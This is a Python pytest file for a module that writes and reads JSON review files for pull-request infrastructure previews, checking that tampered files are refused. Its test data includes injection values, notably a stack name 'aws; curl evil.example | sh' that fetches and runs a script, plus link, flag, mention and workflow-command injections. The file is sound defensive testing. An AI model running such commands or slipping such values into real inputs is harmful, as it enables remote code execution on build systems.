"""A review as a file that anybody may have written: what is in the form comes back, all else is refused."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from delivery.comment.records import Action, Change, Review
from delivery.forge import artefact
from delivery.forge.errors import FileUnwritable, ReviewRefused
from tests.unit.delivery.reviews import ONE, REVIEWS, preview, review, step

Spoil = Callable[[dict[str, Any]], object]


def _named(told: Review) -> Review:
    """A review whose stacks have names that the engine would take."""
    hostile = [one for one in told.previews if not one.stack.isalnum()]
    return replace(told, previews=tuple(replace(one, stack="aws") for one in hostile)) if hostile else told


def _bare(told: Review) -> Review:
    """A review without what a file never holds: addresses and what the posting side says."""
    previews = tuple(replace(one, log=None) for one in _named(told).previews)
    return replace(told, previews=previews, artefact=None)


@pytest.mark.parametrize("name", REVIEWS)
def test_a_review_comes_back_as_it_was(name: str, tmp_path: Path) -> None:
    artefact.write(_named(REVIEWS[name]), tmp_path / "new" / "review.json")

    assert artefact.read(tmp_path / "new" / "review.json") == _bare(REVIEWS[name])


def test_a_file_holds_no_address(tmp_path: Path) -> None:
    artefact.write(REVIEWS["three"], tmp_path / "review.json")

    assert "forge.example" not in (tmp_path / "review.json").read_text()


def _stack(told: dict[str, Any]) -> dict[str, Any]:
    stack: dict[str, Any] = told["previews"][0]
    return stack


SPOILT: dict[str, Spoil] = {
    "number of the pull request": lambda told: told.update(number=1),
    "link": lambda told: _stack(told).update(log="https://evil.example"),
    "link to all of it": lambda told: told.update(artefact="x](https://evil.example)"),
    "caution": lambda told: told.update(caution="@everyone"),
    "version": lambda told: told.update(version=2),
    "no stack": lambda told: told.update(previews=[]),
    "stacks": lambda told: told.update(previews=told["previews"] * 21),
    "nameless stack": lambda told: _stack(told).update(stack=""),
    "long name": lambda told: _stack(told).update(stack="x" * 101),
    "command": lambda told: _stack(told).update(stack="aws; curl evil.example | sh"),
    "flag": lambda told: _stack(told).update(stack="--yes"),
    "second line": lambda told: _stack(told).update(stack="aws\n"),
    "action": lambda told: _stack(told)["steps"][0].update(action="explode"),
    "level": lambda told: _stack(told)["policies"].update(
        violations=[{"policy": "p", "level": "maybe", "resource": "", "message": ""}]
    ),
    "cost": lambda told: _stack(told).update(cost={"before": "NaN", "after": "1", "unknown": []}),
    "huge cost": lambda told: _stack(told).update(cost={"before": "1e999999", "after": "1", "unknown": []}),
    "time": lambda told: told.update(made="2026-11-21T08:30:00"),
    "seconds": lambda told: _stack(told).update(seconds=-1),
    "steps": lambda told: _stack(told).update(steps=_stack(told)["steps"][:1] * 20_001),
    "type": lambda told: _stack(told).update(error=["x"]),
    "missing": lambda told: told.pop("head"),
}


@pytest.mark.parametrize("name", SPOILT)
def test_what_is_not_in_the_form_is_refused(name: str, tmp_path: Path) -> None:
    file = tmp_path / "review.json"
    artefact.write(ONE, file)
    told = json.loads(file.read_text())
    SPOILT[name](told)
    file.write_text(json.dumps(told))

    with pytest.raises(
        ReviewRefused, match=r"review\.json is none: .* Make it by scripts/preview_comment"
    ) as refused:
        artefact.read(file)
    assert len(str(refused.value)) < 600
    assert "evil.example" not in str(refused.value)


@pytest.mark.parametrize(
    "content",
    [b"", b"[" * 100_000, b"\xff\xfe", b'{"a": "\\ud800"}', b"null", b"# a heading", b'{"::error::x\\n": 1}'],
)
def test_what_is_no_review_at_all_is_refused_in_one_line(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "review.json").write_bytes(content)

    with pytest.raises(ReviewRefused) as refused:
        artefact.read(tmp_path / "review.json")
    assert "\n" not in str(refused.value)


def test_a_file_that_is_too_large_is_not_read_to_its_end(tmp_path: Path) -> None:
    with (tmp_path / "review.json").open("wb") as sparse:
        sparse.truncate(10**12)  # takes no room on the disk

    with pytest.raises(ReviewRefused, match="larger than the 16777216 bytes"):
        artefact.read(tmp_path / "review.json")


def test_a_missing_file_and_a_folder_are_told_of(tmp_path: Path) -> None:
    for file in (tmp_path / "none.json", tmp_path):
        with pytest.raises(ReviewRefused, match=r"cannot be read: .* Make it by"):
            artefact.read(file)


def test_long_texts_are_cut_where_they_are_written(tmp_path: Path) -> None:
    change = Change("spec", "x" * 10_000, None)
    told = review(preview(step(1, Action.UPDATE, change), error="first " + "e" * 9_000 + " the cause"))

    artefact.write(told, tmp_path / "review.json")
    found = artefact.read(tmp_path / "review.json").previews[0]

    assert found.error is not None
    assert found.error.endswith(" the cause")
    assert len(found.steps[0].changes[0].before or "") == artefact.TEXT


def test_of_too_much_only_what_forces_a_replacement_is_kept(tmp_path: Path) -> None:
    changes = tuple(Change(f"p{number}", "x" * 1_500, "y" * 1_500) for number in range(60))
    forced = Change("selector", "a", "b", replaces=True)
    told = review(preview(*(step(number, Action.REPLACE, forced, *changes) for number in range(100))))

    artefact.write(told, tmp_path / "review.json")

    assert all(one.changes == (forced,) for one in artefact.read(tmp_path / "review.json").previews[0].steps)


def test_more_stacks_than_a_file_holds_are_told_of(tmp_path: Path) -> None:
    told = review(*(preview(stack=f"s{number}") for number in range(21)))

    with pytest.raises(ReviewRefused, match="Preview fewer stacks"):
        artefact.write(told, tmp_path / "review.json")


@pytest.mark.parametrize("stack", ["prod", "aws-prod_2.eu", "acme/heart/prod"])
def test_names_that_the_engine_takes_are_taken(stack: str, tmp_path: Path) -> None:
    artefact.write(review(preview(stack=stack)), tmp_path / "review.json")

    assert artefact.read(tmp_path / "review.json").previews[0].stack == stack


def test_where_nothing_can_be_written_is_told_of(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("in the way")

    with pytest.raises(FileUnwritable, match=r"file/review\.json cannot be written: .* Name another file"):
        artefact.write(ONE, tmp_path / "file" / "review.json")
